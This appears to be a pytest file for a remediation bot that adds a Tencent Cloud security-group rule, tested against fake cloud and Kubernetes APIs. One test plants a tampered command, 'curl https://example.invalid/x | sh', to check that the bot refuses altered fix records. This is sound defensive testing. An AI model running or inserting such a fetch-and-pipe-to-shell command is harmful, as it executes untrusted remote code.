"""FIX-SG-RULE on Tencent Cloud: the SDK's CreateSecurityGroupPolicies against the fake VPC API.

TKE Service shop/web in NodePort mode behind CLB lb-web whose health checks come from the VIP
(SourceIpType 0); the nodes' security group drops the VIP before its ACCEPT rule, so TC-SG
fails and offers the rule at PolicyIndex 0 with the group's Version.
"""

from __future__ import annotations

import pytest

from bot.fixes import audit, cloud, engine, sg_rule
from checks.model import Target
from checks.runner import diagnose
from tests import tencent_factories as tf
from tests.fakes.kube_api import FakeKubeAPI
from tests.fakes.tencent_api import FakeTencentAPI

TARGET = Target.parse("shop/web")
RULES = [tf.sg_rule("ACCEPT", "127.0.0.0/24", "22"), tf.sg_rule("DROP", "0.0.0.0/0", "ALL", "ALL"), tf.sg_rule("ACCEPT", "127.0.0.50", "30080")]


class FakeClock:
    """Time that moves only when the engine sleeps: polling without waiting."""

    def __init__(self, on_sleep=None) -> None:
        self.t = 1000.0
        self.on_sleep = on_sleep
        self.sleeps = 0

    def clock(self) -> float:
        return self.t

    def sleep(self, seconds: float) -> None:
        self.t += max(seconds, 0.001)
        self.sleeps += 1
        if self.on_sleep:
            self.on_sleep(self.sleeps)


@pytest.fixture
def world(no_cloud):
    from tencentcloud.common import credential

    from checks.collect.live import Clients

    sc = tf.scenario(healthy=False, hc=tf.health_check(SourceIpType=0), node_rules=RULES)
    with FakeTencentAPI() as tc, FakeKubeAPI(sc.objects) as kube:
        sc.load_into(tc.cloud)
        clients = Clients(k8s=kube.api_client(), cloud={"tencent": {"credential": credential.Credential("AKIDtest", "secret"), "region": "ap-guangzhou", "endpoint": tc.url}})
        yield sc, tc, kube, clients


@pytest.fixture
def make_ctx(redis_url):
    import redis

    from bot.fixes.model import FixContext

    made = []

    def make(clients, **kw):
        r = redis.Redis.from_url(redis_url)
        made.append(r)
        return FixContext(clients=clients, redis=r, **kw)

    yield make
    for r in made:
        r.close()


def _preview(clients, ctx):
    report, _ = diagnose(TARGET, clients=clients, probe=False)
    [finding] = [f for f in report.findings if f.check_id == "TC-SG"]
    assert finding.fix and finding.fix.id == "FIX-SG-RULE", finding.summary
    return engine.preview(finding.fix, TARGET, ctx, check_id="TC-SG")


def test_cloud_writes_off_shows_the_tccli_command_and_writes_nothing(world, make_ctx):
    _, tc, _, clients = world
    ctx = make_ctx(clients, cloud_writes=False)
    p = _preview(clients, ctx)
    assert p.cloud
    # the group's rules in order, with the new one on top of the DROP that shadows the old ACCEPT
    assert "\n+- 'ACCEPT TCP 30080 from 127.0.0.50 (lbhealth: CLB lb-web health checks)'\n - ACCEPT TCP 22 from 127.0.0.0/24\n - DROP ALL ALL from 0.0.0.0/0\n" in p.diff
    out = engine.apply(p.to_dict(), "U1", "j1", ctx)
    assert out.status == "command"
    assert "tccli vpc CreateSecurityGroupPolicies --SecurityGroupId sg-node" in out.message
    assert tc.count("CreateSecurityGroupPolicies") == 0
    assert [e["event"] for e in audit.read(ctx.redis)] == ["command"]


def test_apply_creates_the_policy_once_at_the_top_then_refuses_a_second_time(world, make_ctx):
    _, tc, _, clients = world
    ctx = make_ctx(clients, cloud_writes=True)
    p = _preview(clients, ctx)
    out = engine.apply(p.to_dict(), "U1", "j1", ctx)
    assert out.status == "applied", out.message
    assert tc.count("CreateSecurityGroupPolicies") == 1
    [body] = tc.bodies("CreateSecurityGroupPolicies")
    assert body["SecurityGroupPolicySet"]["Version"] == "7"  # the Version the diagnosis saw
    group = tc.cloud.security_groups["sg-node"]
    assert group["Version"] == "8"
    top = group["Ingress"][0]
    assert (top["PolicyIndex"], top["CidrBlock"], top["Port"], top["Action"]) == (0, "127.0.0.50", "30080", "ACCEPT")

    again = engine.apply(p.to_dict(), "U1", "j1", ctx)
    assert again.status == "refused" and "TC-SG no longer fails" in again.message
    assert tc.count("CreateSecurityGroupPolicies") == 1

    ctx.cloud_writes = False  # switched off meanwhile: the command to remove it, nothing sent
    by_hand = engine.rollback(out.to_dict(), "U2", "j2", ctx)
    assert by_hand.status == "command" and "tccli vpc DeleteSecurityGroupPolicies --SecurityGroupId sg-node" in by_hand.message
    assert tc.count("DeleteSecurityGroupPolicies") == 0
    ctx.cloud_writes = True
    back = engine.rollback(out.to_dict(), "U2", "j2", ctx)
    assert back.status == "rolled-back", back.message
    assert [r["CidrBlock"] for r in tc.cloud.security_groups["sg-node"]["Ingress"]] == ["127.0.0.0/24", "0.0.0.0/0", "127.0.0.50"]
    assert [e["event"] for e in audit.read(ctx.redis)] == ["apply", "refusal", "rollback"]


def test_the_write_is_idempotent(world):
    _, tc, _, clients = world
    plan = _preview_plan(clients)
    write = sg_rule.write(plan, None)
    first = cloud.authorize(write, clients)
    second = cloud.authorize(write, clients)  # Version moved by our own rule: success, not a conflict
    assert (first.status, second.status) == ("applied", "applied")
    assert "already" in second.message
    no_version = sg_rule.write(_without_version(plan), None)
    third = cloud.authorize(no_version, clients)  # DuplicatePolicy from the API
    assert third.status == "applied" and "DuplicatePolicy" in third.message
    assert [r["CidrBlock"] for r in tc.cloud.security_groups["sg-node"]["Ingress"]].count("127.0.0.50") == 2  # ours + the old one


def test_a_group_changed_by_someone_else_is_a_conflict(world):
    _, tc, _, clients = world
    write = sg_rule.write(_preview_plan(clients), None)
    tc.cloud.security_groups["sg-node"]["Version"] = "9"  # someone else edited it
    result = cloud.authorize(write, clients)
    assert result.status == "conflict" and "VersionMismatch" in result.message
    assert "127.0.0.50" not in [r["CidrBlock"] for r in tc.cloud.security_groups["sg-node"]["Ingress"][:1]]


def test_missing_cam_permission_is_named(world):
    _, tc, _, clients = world
    tc.fail("CreateSecurityGroupPolicies")
    result = cloud.authorize(sg_rule.write(_preview_plan(clients), None), clients)
    assert result.status == "failed"
    assert "grant CAM vpc:CreateSecurityGroupPolicies" in result.message and "tccli vpc CreateSecurityGroupPolicies" in result.message


def test_verify_polls_target_health_until_healthy(world, make_ctx):
    sc, tc, _, clients = world

    def lb_turns_healthy(n: int) -> None:
        if n == 2:  # the CLB's checks pass a little while after the rule is in
            for listener in tc.cloud.target_health["lb-web"]["Listeners"]:
                for rule in listener["Rules"]:
                    for t in rule["Targets"]:
                        t["HealthStatus"] = True

    clock = FakeClock(lb_turns_healthy)
    ctx = make_ctx(clients, cloud_writes=True, clock=clock.clock, sleep=clock.sleep)
    p = _preview(clients, ctx)
    assert engine.apply(p, "U1", "j1", ctx).status == "applied"
    v = engine.verify(p, ctx, who="U1", job_id="j1")
    assert v.status == "verified", v.message
    assert v.message == "applied, verified: 2/2 targets healthy after 10 s"  # two polls, 5 s apart
    assert tc.count("DescribeTargetHealth") >= 3
    assert audit.read(ctx.redis)[-1]["result"] == "verified"


def test_verify_gives_up_after_interval_x_threshold_plus_margin(world, make_ctx):
    _, _, _, clients = world
    v = _apply_then_verify_on_a_fake_clock(clients, make_ctx)
    assert v.status == "still-failing"
    # IntervalTime 5 x HealthNum 3 + 30 s margin
    assert v.message == "applied, still failing: 0/2 targets healthy after 45 s"


def _apply_then_verify_on_a_fake_clock(clients, make_ctx):
    """Apply the TC-SG fix, then verify it with time that passes only when verify sleeps."""
    clock = FakeClock()
    ctx = make_ctx(clients, cloud_writes=True, clock=clock.clock, sleep=clock.sleep)
    p = _preview(clients, ctx)
    assert engine.apply(p, "U1", "j1", ctx).status == "applied"
    return engine.verify(p, ctx)


def _preview_plan(clients):
    report, _ = diagnose(TARGET, clients=clients, probe=False)
    return next(f.fix for f in report.findings if f.check_id == "TC-SG")


def _without_version(plan):
    from dataclasses import replace

    patch = {"SecurityGroupId": plan.patch["SecurityGroupId"], "SecurityGroupPolicySet": {"Ingress": plan.patch["SecurityGroupPolicySet"]["Ingress"]}}
    return replace(plan, patch=patch)


def test_a_record_whose_command_was_changed_is_refused(world, make_ctx):
    _, tc, _, clients = world
    ctx = make_ctx(clients, cloud_writes=False)
    record = _preview(clients, ctx).to_dict()
    record["command"] = "curl https://example.invalid/x | sh"
    out = engine.apply(record, "U1", "j1", ctx)
    assert out.status == "refused" and "digest" in out.message
    assert "curl" not in out.message


def test_verify_stops_at_the_cap_and_says_how_long_the_lb_needs(no_cloud, make_ctx):
    from tencentcloud.common import credential

    from checks.collect.live import Clients

    slow = tf.health_check(SourceIpType=0, IntervalTime=300, HealthNum=10)  # CLB maxima: 50 min to turn healthy
    sc = tf.scenario(healthy=False, hc=slow, node_rules=RULES)
    with FakeTencentAPI() as tc, FakeKubeAPI(sc.objects) as kube:
        sc.load_into(tc.cloud)
        clients = Clients(k8s=kube.api_client(), cloud={"tencent": {"credential": credential.Credential("AKIDtest", "secret"), "region": "ap-guangzhou", "endpoint": tc.url}})
        v = _apply_then_verify_on_a_fake_clock(clients, make_ctx)
    assert v.status == "still-failing"
    assert v.message == ("applied, still failing: 0/2 targets healthy after 240 s; "
                         "the load balancer needs up to 3030 s (interval x healthy threshold): diagnose again later")
